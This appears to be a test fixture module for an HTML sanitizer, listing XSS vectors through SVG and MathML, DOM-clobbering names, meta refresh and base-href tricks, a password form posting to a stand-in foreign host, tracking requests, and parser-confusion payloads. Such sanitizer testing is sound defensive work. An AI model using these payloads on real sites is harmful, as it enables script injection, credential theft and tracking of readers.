const CODE = 'window.__xss=1';
const FOREIGN = 'https://foreign.invalid';
const SCRIPT = `<script>${CODE}</script>`;
const IMAGE = `<img src=x onerror=${CODE}>`;

/** Elements of other vocabularies, and what moves them. */
export const vectors = [
  `<svg>${SCRIPT}</svg>`,
  `<svg><script href="data:,${CODE}"/></svg>`,
  `<svg><a xlink:href="javascript:${CODE}"><text>a</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${CODE}"/><text>a</text></a></svg>`,
  `<svg><set attributeName=href to="javascript:${CODE}"/></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${CODE}'/>#x"></svg>`,
  `<svg><image href="${FOREIGN}/a.png"/></svg>`,
  `<svg><handler>${CODE}</handler></svg>`,
  `<math href="javascript:${CODE}">a</math>`,
  `<math><maction actiontype="statusline#${FOREIGN}" xlink:href="javascript:${CODE}">a</maction></math>`,
  `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${CODE}</script></annotation-xml></semantics></math>`,
];

/** Names that hide what the page itself uses. */
export const clobbering = [
  'id=root',
  'id=first-paint',
  'id=preload',
  'name=location',
  'name=body',
  'name=cookie',
  'id=getElementById',
  'id=__rcepEarly',
  'name=__proto__',
  'id=constructor',
  'name=defaultView',
  'class=overlay',
  'slot=x',
  'is=x-y',
  'part=x',
].map((name, at) =>
  at % 2 === 0
    ? `<img ${name}><p ${name}>a</p>`
    : `<form ${name}><input ${name}></form><a ${name} href=#>a</a>`,
);

export const pageWide = [
  `<meta http-equiv=refresh content="0;url=${FOREIGN}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<meta name=referrer content=unsafe-url>`,
  `<base href="${FOREIGN}/"><a href="a">a</a>`,
  `<base target=_top><a href="https://a.example">a</a>`,
  `<form action="${FOREIGN}"><input name=password><button>sign in</button></form>`,
  `<form id=x></form><button form=x formaction="${FOREIGN}">a</button>`,
  `<a href="https://a.example" target=_top rel=opener ping="${FOREIGN}">a</a>`,
  `<html><head><title>x</title></head><body onload=${CODE}><p>a</p></body></html>`,
  `<link rel=prefetch href="${FOREIGN}/a"><link rel=preconnect href="${FOREIGN}"><link rel=dns-prefetch href="${FOREIGN}">`,
  `<dialog open><form method=dialog><button value="${CODE}">a</button></form></dialog>`,
];

/** Pictures, films and the like that would tell a host who reads. */
export const requests = [
  '<img src="%">',
  '<img srcset="% 1x">',
  '<img loading=eager src=%>',
  '<picture><source srcset="%"><img></picture>',
  '<video src="%" autoplay></video>',
  '<video poster="%"></video>',
  '<audio src="%" autoplay></audio>',
  '<object data="%"></object>',
  '<embed src="%">',
  '<iframe src="%"></iframe>',
  '<input type=image src="%">',
  '<script src="%"></script>',
  '<img src="//foreign.invalid/a">',
  '<img src="\\\\foreign.invalid\\a">',
  '<img src="https:foreign.invalid/a">',
  '<table background="%"><tr><td>a</td></tr></table>',
  '<a href="https://user:pass@foreign.invalid/">a</a>',
].map((html) => html.replace('%', `${FOREIGN}/a`));

/** What reads as markup to one parser and as text to another. */
export const tricks = [
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<script/x>${CODE}</script>`,
  `<script\n>${CODE}</script\n>`,
  `<SCRIPT>${CODE}</SCRIPT>`,
  `<script>${CODE}`,
  `<<script>${CODE}//<</script>`,
  `<img src="x\` \`<script>${CODE}</script>"\` \`>`,
  `<img """>${SCRIPT}">`,
  `<p a='>' ${IMAGE}>a</p>`,
  `<!-- --!>${IMAGE} -->`,
  `<!--><img src=x onerror=${CODE}>-->`,
  `<!--[if IE]>${SCRIPT}<![endif]-->`,
  `<?xml version="1.0"?>${IMAGE}`,
  `<!DOCTYPE html [<!ENTITY x "${IMAGE}">]>&x;`,
  `</p${IMAGE}>`,
  `<plaintext>${SCRIPT}`,
  `<a href="https://a.example/&quot; onmouseover=&quot;${CODE}">a</a>`,
  `<img alt="&lt;script&gt;${CODE}&lt;/script&gt;">`,
  `${'<div>'.repeat(600)}${IMAGE}`,
  `\u202e${SCRIPT}\u202c`,
  `<img src=x onerror=${CODE}`,
  `&lt;script&gt;${CODE}&lt;/script&gt;`,
];
